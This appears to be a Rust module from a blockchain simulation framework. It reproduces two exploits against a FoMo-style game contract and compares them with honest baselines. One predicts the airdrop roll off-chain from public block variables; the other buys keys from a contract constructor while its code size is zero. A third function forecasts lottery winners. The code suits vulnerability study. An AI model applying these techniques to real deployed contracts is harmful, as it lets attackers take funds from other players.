//! Executable reproductions of the two exploits and the honest baselines
//! they are measured against.
//!
//! The seed predictor is nothing more than the contract's own formula run
//! off-chain before buying; it wins every airdrop it pays for because both
//! sides are the same pure function of public block variables. The
//! constructor bypass deploys a contract whose constructor buys a key while
//! its code size is still zero.

use std::cmp;

use serde::{Deserialize, Serialize};

use crate::chain::{Address, CallContext, Chain, DeployError};
use crate::contracts::{BuyOutcome, CallError, FomoGame, GuardChoice};
use crate::entropy::{airdrop_roll, airdrop_seed, lottery_random, EntropyError};
use crate::u256::U256;

/// Call data tag attacker and honest buys carry (and sign, when the
/// signature guard is in force).
pub const BUY_CALL_DATA: &[u8] = b"fomo.buy_key";

fn default_period() -> u64 {
    1
}

/// An actor behavior a scenario can schedule. Strategies only touch chain
/// state through public contract operations.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case", deny_unknown_fields)]
pub enum Strategy {
    /// Buys a qualifying key every `period` blocks, no prediction.
    HonestBuyer {
        #[serde(default = "default_period")]
        period: u64,
    },
    /// Replicates the contract roll off-chain each block and buys only when
    /// the roll is a guaranteed win.
    SelectivePredictor,
    /// Every `period` blocks, deploys a fresh contract whose constructor
    /// attempts a key purchase under the scenario guard.
    ConstructorBypass {
        #[serde(default = "default_period")]
        period: u64,
    },
    /// Tracked alias for the first lottery participant: enters every round
    /// like everyone else. `reveal_withhold_period` > 0 makes it skip every
    /// n-th reveal in commit-reveal rounds.
    HonestLotteryPlayer {
        #[serde(default)]
        reveal_withhold_period: u64,
    },
    /// Observes each draw block and forecasts the winner from block
    /// variables alone, without participating.
    DrawForecaster,
}

impl Strategy {
    pub fn name(&self) -> &'static str {
        match self {
            Strategy::HonestBuyer { .. } => "honest_buyer",
            Strategy::SelectivePredictor => "selective_predictor",
            Strategy::ConstructorBypass { .. } => "constructor_bypass",
            Strategy::HonestLotteryPlayer { .. } => "honest_lottery_player",
            Strategy::DrawForecaster => "draw_forecaster",
        }
    }
}

/// The attacker's off-chain replica of the contract's airdrop roll for a buy
/// executing in block `env`. Extensionally equal to the contract's own check;
/// that equality is the vulnerability.
pub fn predict_airdrop(env: &crate::chain::BlockEnv, caller: Address, tracker: U256) -> Result<bool, EntropyError> {
    Ok(airdrop_roll(airdrop_seed(env, caller)?, tracker))
}

/// What one selective step decided and, when it bought, how the buy went.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct BuyDecision {
    pub attempted: bool,
    pub outcome: Option<BuyOutcome>,
}

/// One block-step of the selective predictor: replicate the roll the contract
/// would evaluate right now (same env, same pre-increment tracker) and buy
/// only when it is a win.
pub fn selective_buy_step(
    chain: &mut Chain,
    game: &mut FomoGame,
    attacker: Address,
    guard: GuardChoice,
) -> Result<BuyDecision, CallError> {
    let value = cmp::max(game.params().key_price, game.params().airdrop_min_qualifying);
    // A seed overflow would revert the contract's own roll too; nothing to
    // win, so the attacker sits out on errors.
    let prediction = predict_airdrop(chain.env(), attacker, game.tracker()).unwrap_or(false);
    if !prediction {
        return Ok(BuyDecision {
            attempted: false,
            outcome: None,
        });
    }
    let sig = chain.sign(attacker, BUY_CALL_DATA);
    let ctx = CallContext::eoa_call(attacker, value, BUY_CALL_DATA.to_vec()).with_signature(sig);
    let outcome = game.buy_key(chain, &ctx, guard)?;
    Ok(BuyDecision {
        attempted: true,
        outcome: Some(outcome),
    })
}

/// Verdict of one constructor-bypass attempt. Blocked outcomes are data, not
/// errors: the whole deployment reverted and the guard's message is kept.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum BypassOutcome {
    Bypassed { outcome: BuyOutcome },
    Blocked { guard_error: String },
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct AttackResult {
    pub guard: GuardChoice,
    pub contract: Option<Address>,
    pub outcome: BypassOutcome,
}

impl AttackResult {
    pub fn bypassed(&self) -> bool {
        matches!(self.outcome, BypassOutcome::Bypassed { .. })
    }
}

/// Deploys an attacker contract whose constructor buys a key under the given
/// guard. While the constructor runs the contract's code size is zero, so
/// the code-size guard waves it through; origin and signature guards block
/// it. Chain-level setup failures (unfunded funder) surface as errors.
pub fn constructor_bypass_attack(
    chain: &mut Chain,
    game: &mut FomoGame,
    funder: Address,
    guard: GuardChoice,
) -> Result<AttackResult, CallError> {
    let value = cmp::max(game.params().key_price, game.params().airdrop_min_qualifying);
    let mut captured: Option<Result<BuyOutcome, CallError>> = None;
    let deploy_result = chain.deploy_contract(funder, value, |chain, me| {
        // The contract forwards the best signature available to it: one made
        // by its funding EOA. The signature guard still rejects it because
        // the recovered signer is the EOA, not the contract.
        let sig = chain.sign(funder, BUY_CALL_DATA);
        let ctx = CallContext::contract_call(me, funder, value, true, BUY_CALL_DATA.to_vec())
            .with_signature(sig);
        match game.buy_key(chain, &ctx, guard) {
            Ok(outcome) => {
                captured = Some(Ok(outcome));
                Ok(())
            }
            Err(e) => {
                captured = Some(Err(e.clone()));
                Err(e)
            }
        }
    });
    match deploy_result {
        Ok(contract) => {
            let outcome = match captured {
                Some(Ok(outcome)) => outcome,
                _ => unreachable!("successful deployment always captured a buy outcome"),
            };
            Ok(AttackResult {
                guard,
                contract: Some(contract),
                outcome: BypassOutcome::Bypassed { outcome },
            })
        }
        Err(DeployError::Constructor(e)) => Ok(AttackResult {
            guard,
            contract: None,
            outcome: BypassOutcome::Blocked {
                guard_error: e.to_string(),
            },
        }),
        Err(DeployError::Chain(c)) => Err(CallError::Chain(c)),
    }
}

/// Any observer's winner forecast: the same index computation the draw will
/// perform, evaluated on the forecast block's variables.
pub fn forecast_lottery_winner(
    env: &crate::chain::BlockEnv,
    players: &[Address],
) -> Result<Address, CallError> {
    if players.is_empty() {
        return Err(CallError::EmptyPool);
    }
    let index = lottery_random(env, players)
        .checked_rem(U256::from(players.len() as u64))
        .expect("player list is nonempty")
        .low_u64() as usize;
    Ok(players[index])
}
